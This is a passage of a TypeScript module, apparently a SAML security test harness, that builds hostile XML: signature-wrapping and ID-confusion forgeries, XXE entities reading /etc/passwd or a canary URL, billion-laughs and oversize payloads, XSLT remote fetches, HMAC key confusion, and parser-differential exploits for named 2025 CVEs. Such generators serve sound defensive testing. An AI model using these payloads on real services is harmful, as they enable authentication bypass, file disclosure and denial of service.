  while (sv.firstChild) sv.removeChild(sv.firstChild);
  return serialize(doc);
}

/** B2 — SignatureValue replaced by garbage (default "AAAA"). */
export function garbageSignatureValue(xml: string, value = "AAAA"): string {
  const doc = parse(xml, "garbageSignatureValue");
  setText(signatureValueEl(doc, "garbageSignatureValue"), value);
  return serialize(doc);
}

/** B2 — comment inside SignatureValue: `<!--ORIGINAL-->AAAA` (a firstChild reader sees the real value). */
export function commentInSignatureValue(xml: string, garbage = "AAAA"): string {
  const doc = parse(xml, "commentInSignatureValue");
  const sv = signatureValueEl(doc, "commentInSignatureValue");
  const original = (sv.textContent ?? "").trim();
  while (sv.firstChild) sv.removeChild(sv.firstChild);
  sv.appendChild(doc.createComment(original));
  sv.appendChild(doc.createTextNode(garbage));
  return serialize(doc);
}

/** B11 — textual: a second root element (`evilXml`, its XML declaration dropped) after the signed one. */
export function appendSecondRoot(xml: string, evilXml: string): string {
  return `${xml.replace(/\s+$/, "")}\n${splitDecl(evilXml).body.trim()}\n`;
}

/** B11 variant — textual: the evil root first, the signed document second (XML declaration kept first). */
export function prependSecondRoot(xml: string, evilXml: string): string {
  const { decl, body } = splitDecl(xml);
  return `${decl ? `${decl}\n` : ""}${splitDecl(evilXml).body.trim()}\n${body.trim()}\n`;
}

export type DoctypeKind =
  | "xxe-file"
  | "xxe-http"
  | "parameter-entity"
  | "billion-laughs"
  | "empty-doctype"
  | "attlist-namespace"
  | "entity-built-id";

/**
 * C1/C2/C3/C4/B23/B24 — prefixes a DOCTYPE (after the XML declaration, if any).
 * - "xxe-file" (C1): `<!ENTITY xxe SYSTEM "file:///etc/passwd">`, NameID text = `&xxe;`
 * - "xxe-http" (C1): `<!ENTITY xxe SYSTEM "http://canary.invalid/xxe">`, NameID text = `&xxe;`
 * - "parameter-entity" (C2, SAMLRaider applyXXE): `<!ENTITY % xxe SYSTEM "…"> %xxe;`
 * - "billion-laughs" (C3): lol…lol9, NameID text = `&lol9;`
 * - "empty-doctype" (C4): `<!DOCTYPE Root>`, no entities; the signature stays valid
 * - "attlist-namespace" (B23, SAMLRaider CVE_2025_25292): see {@link attlistNamespaceConfusion}
 * - "entity-built-id" (B24, SAMLRaider CVE_2025_23369): see {@link entityBuiltId}
 * `target` overrides the file path / canary URL of the xxe kinds.
 */
export function withDoctype(xml: string, kind: DoctypeKind, target?: string): string {
  const fn = "withDoctype";
  switch (kind) {
    case "attlist-namespace":
      return attlistNamespaceConfusion(xml);
    case "entity-built-id":
      return entityBuiltId(xml);
    default:
      break;
  }
  const doc = parse(xml, fn);
  const name = root(doc).tagName;
  switch (kind) {
    case "xxe-file":
      return insertAfterDecl(
        textualEntityInNameId(doc, "&xxe;", fn),
        `<!DOCTYPE ${name} [<!ENTITY xxe SYSTEM "${target ?? "file:///etc/passwd"}">]>\n`,
      );
    case "xxe-http":
      return insertAfterDecl(
        textualEntityInNameId(doc, "&xxe;", fn),
        `<!DOCTYPE ${name} [<!ENTITY xxe SYSTEM "${target ?? `${DEFAULT_CANARY}/xxe`}">]>\n`,
      );
    case "parameter-entity":
      return insertAfterDecl(
        serialize(doc),
        `<!DOCTYPE ${name} [ <!ENTITY % xxe SYSTEM "${target ?? `${DEFAULT_CANARY}/pe`}"> %xxe; ]>\n`,
      );
    case "billion-laughs": {
      const ents = ['<!ENTITY lol "lol">'];
      for (let i = 1; i <= 9; i++) {
        const prev = i === 1 ? "lol" : `lol${i - 1}`;
        ents.push(`<!ENTITY lol${i} "${`&${prev};`.repeat(10)}">`);
      }
      return insertAfterDecl(textualEntityInNameId(doc, "&lol9;", fn), `<!DOCTYPE ${name} [\n${ents.join("\n")}\n]>\n`);
    }
    case "empty-doctype":
      return insertAfterDecl(serialize(doc), `<!DOCTYPE ${name}>\n`);
  }
}

/**
 * B23 — CVE-2025-25292 / CVE-2025-66567 (SAMLRaider CVE_2025_25292, timestamps left alone):
 * every Signature referencing the Response or the first Assertion is removed; the genuine one
 * (the assertion's, else the Response's) is copied, unprefixed and namespace-less, into a new
 * samlp:Status/samlp:StatusDetail as `<Signature>`; a copy with every DigestValue = digest("")
 * goes after the assertion's Issuer; the assertion gets `xmlns:example="http://example.com\u0080"`;
 * and `<!DOCTYPE Response [<!ATTLIST Signature xmlns CDATA #FIXED "…xmldsig#" xmlns CDATA "block">]>`
 * is prefixed. When only the Response was signed, the assertion takes the Response's ID.
 */
export function attlistNamespaceConfusion(xml: string): string {
  const fn = "attlistNamespaceConfusion";
  const doc = parse(xml, fn);
  const response = requireResponseRoot(doc, fn);
  const assertion = firstNS(response, NS.saml, "Assertion", fn, "saml:Assertion");
  const responseId = response.getAttribute("ID") ?? "";
  const assertionId = assertion.getAttribute("ID") ?? "";
  let forResponse: Element | undefined;
  let forAssertion: Element | undefined;
  for (const sig of descendantsNS(doc, NS.ds, "Signature")) {
    const ref = descendantsNS(sig, NS.ds, "Reference")[0];
    if (!ref) continue;
    const uri = (ref.getAttribute("URI") ?? "").replace(/^#/, "");
    if (uri === responseId) forResponse = sig;
    else if (uri === assertionId) forAssertion = sig;
    else continue;
    sig.parentNode?.removeChild(sig);
  }
  const source = forAssertion ?? forResponse;
  if (!source) fail(fn, "no ds:Signature references the Response or the Assertion");

  const copy = doc.createElementNS(source.namespaceURI, qname(source, "Signature"));
  for (let i = 0; i < source.childNodes.length; i++) {
    const c = source.childNodes.item(i);
    if (c) copy.appendChild(c.cloneNode(true));
  }
  const digestMethod = descendantsNS(source, NS.ds, "DigestMethod")[0];
  if (!digestMethod) fail(fn, "ds:Signature has no ds:DigestMethod");
  const emptyDigest = createHash(hashName(digestMethod.getAttribute("Algorithm") ?? "", fn))
    .update("")
    .digest("base64");
  for (const dv of descendantsNS(copy, NS.ds, "DigestValue")) setText(dv, emptyDigest);
  const issuer = childNS(assertion, NS.saml, "Issuer");
  if (!issuer) fail(fn, "saml:Assertion has no saml:Issuer child");
  insertAfter(copy, issuer);
  assertion.setAttributeNS(NS.xmlns, "xmlns:example", "http://example.com\u0080");

  const status = childNS(response, NS.samlp, "Status");
  if (!status) fail(fn, "samlp:Response has no samlp:Status");
  const detail = createLike(doc, status, "StatusDetail");
  status.appendChild(detail);
  if (source.prefix && source.namespaceURI) {
    response.setAttributeNS(NS.xmlns, `xmlns:${source.prefix}`, source.namespaceURI);
  }
  // Deliberately namespace-less and without xmlns="": the ATTLIST default is meant to supply it.
  const bare = doc.createElementNS(null, "Signature");
  for (let i = 0; i < source.childNodes.length; i++) {
    const c = source.childNodes.item(i);
    if (c) bare.appendChild(c.cloneNode(true));
  }
  detail.appendChild(bare);
  if (!forAssertion) {
    assertion.setAttribute("ID", responseId);
    response.setAttribute("ID", `${responseId}ffff`);
  }
  return insertAfterDecl(
    serialize(doc),
    `<!DOCTYPE Response [<!ATTLIST Signature xmlns CDATA #FIXED "${NS.ds}" xmlns CDATA "block">]>\n`,
  );
}

/**
 * B24 — GHES CVE-2025-23369 (SAMLRaider CVE_2025_23369): the Response signature is dropped; the
 * assertion's Signature is copied after the Response's Issuer with a `ds:Object` holding a copy of
 * the signed assertion whose ID becomes `&BypassIDUniqueness;_a1`; the Response ID becomes
 * `&idViaEntity;`; the original assertion loses its Signature and gets ID `_a1ffff`; and
 * `<!DOCTYPE response [<!ENTITY idViaEntity "_a1"><!ENTITY BypassIDUniqueness "&#x50;">]>` is prefixed.
 */
export function entityBuiltId(xml: string): string {
  const fn = "entityBuiltId";
  const doc = parse(xml, fn);
  const { response, assertion, signature } = signedAssertionInResponse(doc, fn);
  const responseId = response.getAttribute("ID") ?? "";
  for (const sig of descendantsNS(doc, NS.ds, "Signature")) {
    const ref = descendantsNS(sig, NS.ds, "Reference")[0];
    if (ref && (ref.getAttribute("URI") ?? "").replace(/^#/, "") === responseId) sig.parentNode?.removeChild(sig);
  }
  const originalId = assertion.getAttribute("ID") ?? fail(fn, "saml:Assertion has no ID");
  const sigCopy = cloneEl(signature);
  const respIssuer = childNS(response, NS.saml, "Issuer");
  if (respIssuer) insertAfter(sigCopy, respIssuer);
  else response.insertBefore(sigCopy, response.firstChild);
  const obj = createLike(doc, signature, "Object");
  sigCopy.appendChild(obj);
  const inner = cloneEl(assertion);
  obj.appendChild(inner);
  assertion.setAttribute("ID", `${originalId}ffff`);
  removeDirectSignatures(assertion);

  const m1 = uniqueMarker();
  const m2 = uniqueMarker();
  response.setAttribute("ID", m1);
  inner.setAttribute("ID", `${m2}${originalId}`);
  const body = serialize(doc).replace(m1, "&idViaEntity;").replace(m2, "&BypassIDUniqueness;");
  return insertAfterDecl(
    body,
    `<!DOCTYPE response [\n<!ENTITY idViaEntity "${originalId}">\n<!ENTITY BypassIDUniqueness "&#x50;">\n]>`,
  );
}

/**
 * B22 — CVE-2025-25291 parser differential (SAMLRaider CVE_2025_25291.apply, timestamps left alone):
 * `<!DOCTYPE response SYSTEM 'x"><!--'>` + forged document without its root end tag +
 * `<![CDATA[-->` + original signed document without its root end tag + `<!--]]>-->` + end tag.
 */
export function parserDifferential(xml: string, evilXml: string): string {
  const fn = "parserDifferential";
  const cut = (text: string, what: string): { head: string; endTag: string } => {
    const body = splitDecl(text).body.trim();
    const endTag = `</${root(parse(text, fn)).tagName}>`;
    const i = body.lastIndexOf(endTag);
    if (i < 0) fail(fn, `${what} does not end with ${endTag}`);
    return { head: body.slice(0, i), endTag };
  };
  const forged = cut(evilXml, "evilXml");
  const original = cut(xml, "xml");
  return (
    `<!DOCTYPE response SYSTEM 'x"><!--'>\n` +
    `${forged.head}<![CDATA[-->\n${original.head}<!--]]>-->\n${forged.endTag}`
  );
}

export type IdAttributeName = "Id" | "id" | "ID" | "foo:ID";

/**
 * B19 — ID-attribute confusion: an evil copy of the signed element (Signature removed, evil
 * NameID, its own `ID` attribute removed) carrying the signed element's ID value under `attr`
 * (`foo:ID` is namespaced `urn:foo`). It is inserted before the signed element, or appended inside
 * it when the signed element is the root.
 */
export function idAttributeConfusion(
  xml: string,
  attr: IdAttributeName,
  evilNameId: string = EVIL_NAME_ID,
): string {
  const fn = "idAttributeConfusion";
  const doc = parse(xml, fn);
  const sig = primarySignature(doc, fn);
  const signed = parentElement(sig);
  if (!signed) fail(fn, "ds:Signature has no parent element");
  const uri = firstReference(sig, fn).getAttribute("URI") ?? "";
  if (!uri.startsWith("#") || uri.length < 2) fail(fn, `Reference URI "${uri}" is not a same-document #id`);
  const id = uri.slice(1);
  const evil = cloneEl(signed);
  removeDirectSignatures(evil);
  evil.removeAttribute("ID");
  setNameIds(evil, evilNameId, fn);
  if (attr === "foo:ID") evil.setAttributeNS("urn:foo", "foo:ID", id);
  else evil.setAttribute(attr, id);
  if (signed === root(doc)) signed.appendChild(evil);
  else signed.parentNode?.insertBefore(evil, signed);
  return serialize(doc);
}

/**
 * B14 — XSLT transform (SAMLRaider applyXSLT payload, with an Algorithm attribute): inserted as the
 * first ds:Transform of the first Reference; it fetches `canaryUrl` via unparsed-text() and document().
 */
export function xsltTransform(xml: string, canaryUrl = `${DEFAULT_CANARY}/xslt`): string {
  const fn = "xsltTransform";
  const doc = parse(xml, fn);
  const transforms = getOrCreateTransforms(firstReference(primarySignature(doc, fn), fn));
  const t = newTransform(transforms, ALG.xslt);
  const sheet = doc.createElementNS(NS.xsl, "xsl:stylesheet");
  sheet.setAttribute("version", "2.0");
  const tpl = doc.createElementNS(NS.xsl, "xsl:template");
  tpl.setAttribute("match", "/");
  const v1 = doc.createElementNS(NS.xsl, "xsl:value-of");
  v1.setAttribute("select", `unparsed-text('${canaryUrl}')`);
  const v2 = doc.createElementNS(NS.xsl, "xsl:copy-of");
  v2.setAttribute("select", `document('${canaryUrl}')`);
  tpl.appendChild(v1);
  tpl.appendChild(v2);
  sheet.appendChild(tpl);
  t.appendChild(sheet);
  transforms.insertBefore(t, transforms.firstChild);
  return serialize(doc);
}

/** B15 — appends a ds:Transform with `algorithmUri` to the first Reference (see ALG for URIs). */
export function extraTransform(xml: string, algorithmUri: string): string {
  const fn = "extraTransform";
  const doc = parse(xml, fn);
  const transforms = getOrCreateTransforms(firstReference(primarySignature(doc, fn), fn));
  transforms.appendChild(newTransform(transforms, algorithmUri));
  return serialize(doc);
}

/** B16 — appends exc-c14n Transforms until the first Reference has `total` (≥ 3 by default) transforms; adds at least one. */
export function tooManyTransforms(xml: string, total = 3): string {
  const fn = "tooManyTransforms";
  const doc = parse(xml, fn);
  const transforms = getOrCreateTransforms(firstReference(primarySignature(doc, fn), fn));
  do {
    transforms.appendChild(newTransform(transforms, ALG.excC14n));
  } while (childrenNS(transforms, NS.ds, "Transform").length < total);
  return serialize(doc);
}

/** B16 — a second ds:Reference (copy of the first, digest kept) with URI `uri`, after the last one. */
export function extraReference(xml: string, uri: string): string {
  const fn = "extraReference";
  const doc = parse(xml, fn);
  const si = signedInfoOf(primarySignature(doc, fn), fn);
  const refs = referencesOf(si);
  const first = refs[0];
  if (!first) fail(fn, "ds:SignedInfo has no ds:Reference");
  const copy = cloneEl(first);
  copy.setAttribute("URI", uri);
  insertAfter(copy, refs[refs.length - 1] as Element);
  return serialize(doc);
}

/** B16 — copies of the first Reference (same URI) until SignedInfo holds `n` References (n ≥ 2). */
export function manyReferences(xml: string, n: number): string {
  const fn = "manyReferences";
  if (!Number.isInteger(n) || n < 2) fail(fn, `n must be an integer ≥ 2, got ${n}`);
  const doc = parse(xml, fn);
  const si = signedInfoOf(primarySignature(doc, fn), fn);
  const refs = referencesOf(si);
  const first = refs[0];
  if (!first) fail(fn, "ds:SignedInfo has no ds:Reference");
  let last = refs[refs.length - 1] as Element;
  for (let i = refs.length; i < n; i++) {
    const copy = cloneEl(first);
    insertAfter(copy, last);
    last = copy;
  }
  return serialize(doc);
}

/** B17 — sets the URI of the first Reference (e.g. "", "#xpointer(/)", "http://canary…", "#_a1' or '1'='1"). */
export function setReferenceUri(xml: string, uri: string): string {
  const fn = "setReferenceUri";
  const doc = parse(xml, fn);
  firstReference(primarySignature(doc, fn), fn).setAttribute("URI", uri);
  return serialize(doc);
}

/** B6/B18 tamper — sets SignatureMethod/@Algorithm (no re-signing). */
export function setSignatureMethod(xml: string, uri: string): string {
  const fn = "setSignatureMethod";
  const doc = parse(xml, fn);
  const sm = childNS(signedInfoOf(primarySignature(doc, fn), fn), NS.ds, "SignatureMethod");
  if (!sm) fail(fn, "ds:SignedInfo has no ds:SignatureMethod");
  sm.setAttribute("Algorithm", uri);
  return serialize(doc);
}

/** B18 tamper — sets DigestMethod/@Algorithm of every Reference of the primary signature (no re-digest). */
export function setDigestMethod(xml: string, uri: string): string {
  const fn = "setDigestMethod";
  const doc = parse(xml, fn);
  const refs = referencesOf(signedInfoOf(primarySignature(doc, fn), fn));
  if (refs.length === 0) fail(fn, "ds:SignedInfo has no ds:Reference");
  for (const ref of refs) {
    const dm = childNS(ref, NS.ds, "DigestMethod");
    if (!dm) fail(fn, "ds:Reference has no ds:DigestMethod");
    dm.setAttribute("Algorithm", uri);
  }
  return serialize(doc);
}

function hmacAlgorithmClass(uri: string, hash: string): new () => SignatureAlgorithm {
  const mac = (data: BinaryLike, key: unknown): string =>
    createHmac(hash, key as BinaryLike | KeyObject).update(data).digest("base64");
  return class implements SignatureAlgorithm {
    getSignature = createOptionalCallbackFunction((signedInfo: BinaryLike, key: unknown) => mac(signedInfo, key));
    verifySignature = createOptionalCallbackFunction(
      (material: string, key: unknown, signatureValue: string) => mac(material, key) === signatureValue,
    );
    getAlgorithmName = (): string => uri;
  };
}

export type HmacAlgorithm =
  | typeof ALG.hmacSha1
  | typeof ALG.hmacSha256
  | typeof ALG.hmacSha384
  | typeof ALG.hmacSha512;

/**
 * B6 — HMAC key confusion: removes the element's own ds:Signature and re-signs the element with
 * `ID`/`Id`/`id` = `id` using HMAC (default HMAC-SHA256) keyed with `keyMaterial` (e.g. the IdP
 * cert PEM text, its DER, or its SPKI). Enveloped + exc-c14n, sha256 digest, Signature after the
 * element's saml:Issuer (else first child), same ds prefix as the removed one. ATTACKER CODE:
 * `enableHMAC()` is called here and must never be called by the service.
 */
export function hmacSigned(
  xml: string,
  id: string,
  keyMaterial: string | Buffer,
  algorithm: HmacAlgorithm = ALG.hmacSha256,
): string {
  const fn = "hmacSigned";
  if (/['"]/.test(id)) fail(fn, "id must not contain quotes");
  const doc = parse(xml, fn);
  const found = findById(doc, id);
  if (!found) fail(fn, `no element with ID/Id/id="${id}"`);
  const old = childNS(found.el, NS.ds, "Signature");
  const prefix = old ? (old.prefix ?? "") : "ds";
  if (old) found.el.removeChild(old);
  const elXpath = `//*[@${found.attr}='${id}']`;
  const hasIssuer = childNS(found.el, NS.saml, "Issuer") !== undefined;

  const sx = new SignedXml({
    privateKey: keyMaterial,
    signatureAlgorithm: algorithm,
    canonicalizationAlgorithm: ALG.excC14n,
  });
  sx.enableHMAC();
  sx.SignatureAlgorithms[ALG.hmacSha256] = hmacAlgorithmClass(ALG.hmacSha256, "sha256");
  sx.SignatureAlgorithms[ALG.hmacSha384] = hmacAlgorithmClass(ALG.hmacSha384, "sha384");
  sx.SignatureAlgorithms[ALG.hmacSha512] = hmacAlgorithmClass(ALG.hmacSha512, "sha512");
  sx.addReference({
    xpath: elXpath,
    transforms: [ALG.envelopedSignature, ALG.excC14n],
    digestAlgorithm: ALG.sha256,
  });
  const location = hasIssuer
    ? {
        reference: `${elXpath}/*[local-name(.)='Issuer' and namespace-uri(.)='${NS.saml}']`,
        action: "after" as const,
      }
    : { reference: elXpath, action: "prepend" as const };
  sx.computeSignature(serialize(doc), prefix ? { prefix, location } : { location });
  return sx.getSignedXml();
}

// ---------------------------------------------------------------------------------------------
// C. Parser hardening and denial of service
// ---------------------------------------------------------------------------------------------

/**
 * C6 — `depth` nested `<x>` elements (built textually, so any depth is cheap). In a Response they
 * go into an unsigned samlp:Extensions (existing, or created at its schema position), so an
 * assertion-only signature stays valid; for any other root they are appended inside the root.
 */
export function deepNesting(xml: string, depth: number): string {
  const fn = "deepNesting";
  if (!Number.isInteger(depth) || depth < 1) fail(fn, `depth must be a positive integer, got ${depth}`);
  const doc = parse(xml, fn);
  const r = root(doc);
  const container = is(r, NS.samlp, "Response") ? responseExtensions(doc, r) : r;
  const marker = uniqueMarker();
  container.appendChild(doc.createTextNode(marker));
  const first = container.lookupNamespaceURI("") ? '<x xmlns="">' : "<x>";
  const nested = first + "<x>".repeat(depth - 1) + "</x>".repeat(depth);
  return serialize(doc).replace(marker, nested);
}

/**
 * C7 — pads the document to `bytes` UTF-8 bytes with a comment just before the root end tag
 * (comments are outside exc-c14n, so the signature stays valid; only a size limit can stop it).
 */
export function oversize(xml: string, bytes: number): string {
  const fn = "oversize";
  const tag = `</${root(parse(xml, fn)).tagName}`;
  const i = xml.lastIndexOf(tag);
  if (i < 0) fail(fn, `cannot find the root end tag ${tag}>`);
  const overhead = Buffer.byteLength(xml, "utf8") + "<!---->".length;
  if (bytes < overhead + 1) fail(fn, `target ${bytes} bytes is not larger than the input (${overhead - 7} bytes)`);
  return `${xml.slice(0, i)}<!--${"A".repeat(bytes - overhead)}-->${xml.slice(i)}`;
}

/**
 * C8 — adds `n` unused namespace declarations (`xmlns:fbns0="urn:fedbridge:ns:0"`, …) to the
 * signed element (parent of the primary signature; the root when unsigned). Exc-c14n drops unused
 * declarations, so the signature stays valid.
 */
export function manyNamespaces(xml: string, n: number): string {
  const fn = "manyNamespaces";
  if (!Number.isInteger(n) || n < 1) fail(fn, `n must be a positive integer, got ${n}`);
  const doc = parse(xml, fn);
  const sigs = descendantsNS(doc, NS.ds, "Signature");
  const target = sigs.length > 0 ? (parentElement(primarySignature(doc, fn)) ?? root(doc)) : root(doc);
  for (let i = 0; i < n; i++) target.setAttributeNS(NS.xmlns, `xmlns:fbns${i}`, `urn:fedbridge:ns:${i}`);
  return serialize(doc);
}

export type EncodingKind =
  | "utf16le-bom"
  | "latin1-decl"
  | "utf8-bom"
  | "nul-byte"
  | "stylesheet-pi"
  | "deflated"
  | "utf16-decl"
  | "overlong-utf8";

function withEncodingDecl(xml: string, encoding: string): string {
  const { decl, body } = splitDecl(xml);
  if (!decl) return `<?xml version="1.0" encoding="${encoding}"?>\n${body}`;
  const newDecl = /encoding\s*=\s*["'][^"']*["']/.test(decl)
    ? decl.replace(/encoding\s*=\s*["'][^"']*["']/, `encoding="${encoding}"`)
    : decl.replace(/\?>$/, ` encoding="${encoding}"?>`);
  return newDecl + body;
}

/**
 * C5/C10 — byte-level encodings (returns a Buffer):
 * "utf16le-bom" (FF FE + UTF-16LE, declaration says UTF-16), "latin1-decl" (declaration says
 * ISO-8859-1, body encoded as ISO-8859-1), "utf8-bom" (EF BB BF + UTF-8), "nul-byte" (a U+0000 at
 * the end of the NameID text), "stylesheet-pi" (`<?xml-stylesheet href=canary?>` before the root),
 * "deflated" (raw DEFLATE of the UTF-8 bytes, C10), "utf16-decl" (UTF-8 bytes, declaration says
 * UTF-16), "overlong-utf8" (the NameID's "@" — or first character — as the overlong pair C1 80).
 */
export function encodingVariant(xml: string, kind: EncodingKind): Buffer {
  const fn = "encodingVariant";
  switch (kind) {
    case "utf16le-bom":
      return Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(withEncodingDecl(xml, "UTF-16"), "utf16le")]);
    case "latin1-decl": {
      const text = withEncodingDecl(xml, "ISO-8859-1");
      if (/[^\u0000-\u00ff]/.test(text)) fail(fn, "input has characters outside ISO-8859-1");
      return Buffer.from(text, "latin1");
    }
    case "utf8-bom":
      return Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(xml, "utf8")]);
    case "utf16-decl":
      return Buffer.from(withEncodingDecl(xml, "UTF-16"), "utf8");
    case "stylesheet-pi":
      return Buffer.from(
        insertAfterDecl(xml, `<?xml-stylesheet type="text/xsl" href="${DEFAULT_CANARY}/style.xsl"?>\n`),
        "utf8",
      );
    case "deflated":
      return deflateRawSync(Buffer.from(xml, "utf8"));
    case "nul-byte":
    case "overlong-utf8": {
      const doc = parse(xml, fn);
      const nameId = firstNS(doc, NS.saml, "NameID", fn, "saml:NameID");
      const text = nameId.textContent ?? "";
      const marker = uniqueMarker();
      if (kind === "nul-byte") {
        setText(nameId, text + marker);
        const [a, b] = serialize(doc).split(marker) as [string, string];
        return Buffer.concat([Buffer.from(a, "utf8"), Buffer.from([0x00]), Buffer.from(b, "utf8")]);
      }
      const at = text.includes("@") ? text.indexOf("@") : 0;
      const ch = text.charCodeAt(at);
      if (!(ch < 0x80)) fail(fn, "NameID must start with / contain an ASCII character to encode overlong");
      setText(nameId, text.slice(0, at) + marker + text.slice(at + 1));
      const [a, b] = serialize(doc).split(marker) as [string, string];
      const overlong = Buffer.from([0xc0 | (ch >> 6), 0x80 | (ch & 0x3f)]);
      return Buffer.concat([Buffer.from(a, "utf8"), overlong, Buffer.from(b, "utf8")]);
    }
  }
}
